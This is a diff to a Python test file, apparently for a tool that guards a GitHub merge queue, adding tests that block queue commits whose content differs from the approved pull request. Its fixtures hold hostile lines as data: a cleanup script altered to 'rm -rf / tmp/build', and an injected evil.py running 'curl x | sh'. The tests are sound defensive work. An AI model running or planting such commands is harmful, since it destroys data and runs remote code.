@@ -194,9 +194,56 @@ def test_a_commit_pushed_onto_the_queue_branch_naming_the_approved_pull_blocks(
     assert run.code == 1, run.output
     assert run.how(group.head) == "merge queue commit of queued PR #1"
     assert run.how(sneaky).startswith(
-        "a squash naming queued PR #1 that is not its change: its diff is not PR #1's "
-        "(git patch-id "
+        "a squash naming queued PR #1 that is not what the queue writes: its tree "
     ), run.how(sneaky)
+    assert "it holds changes the pull request does not" in run.how(sneaky)
+
+
+SAFE = 'import subprocess\n\nsubprocess.run(["sh", "-c", "rm -rf /tmp/build"])\n'
+EVIL = 'import subprocess\n\nsubprocess.run(["sh", "-c", "rm -rf / tmp/build"])\n'
+
+
+def test_a_squash_that_differs_from_the_pull_only_in_white_space_blocks(
+    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
+) -> None:
+    forge = start(repo, gh)
+    first = forge.pull_request(
+        "Add cleaner", ALICE, [("cleaner", {"clean.py": SAFE})], merge="open"
+    )
+    gh.review(first.number, BOB)
+    base = repo.head()
+    branch = f"gh-readonly-queue/main/pr-1-{base}"
+    repo.git("checkout", "-q", "-b", branch)
+    # Hostile: "/tmp/build" becomes "/ tmp/build"; git patch-id --stable cannot tell them apart.
+    sneaky = forge.direct_push(CAROL, "Add cleaner (#1)", **{"clean.py": EVIL})
+    repo.git("checkout", "-q", "main")
+    run = run_event(repo, gh, tmp_path, payload(Group(base, sneaky, f"refs/heads/{branch}")))
+    assert run.code == 1, run.output
+    assert "it holds changes the pull request does not" in run.how(sneaky)
+
+
+def test_a_queue_merge_that_adds_content_of_its_own_blocks(
+    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
+) -> None:
+    forge = start(repo, gh)
+    first = forge.pull_request("Add parser", ALICE, merge="open")
+    gh.review(first.number, BOB)
+    base = repo.head()
+    branch = f"gh-readonly-queue/main/pr-1-{base}"
+    repo.git("checkout", "-q", "-b", branch)
+    # Hostile: the right parents and subject, and a file in no pull request.
+    forge.git_as(CAROL, "merge", "--no-ff", "--no-commit", "-q", "pr-1")
+    repo.write("evil.py", "import os\nos.system('curl x | sh')\n")
+    repo.git("add", "-A")
+    forge.git_as(CAROL, "commit", "-q", "-m", "Merge pull request #1 from o/pr-1")
+    head = repo.head()
+    repo.git("checkout", "-q", "main")
+    forge.sync()
+    run = run_event(repo, gh, tmp_path, payload(Group(base, head, f"refs/heads/{branch}")))
+    assert run.code == 1, run.output
+    assert run.how(head).startswith(
+        "a merge naming queued PR #1 that is not what the queue writes: its tree "
+    ), run.how(head)
 
 
 def test_a_squash_whose_pull_head_is_not_in_the_clone_blocks_and_says_what_to_fetch(
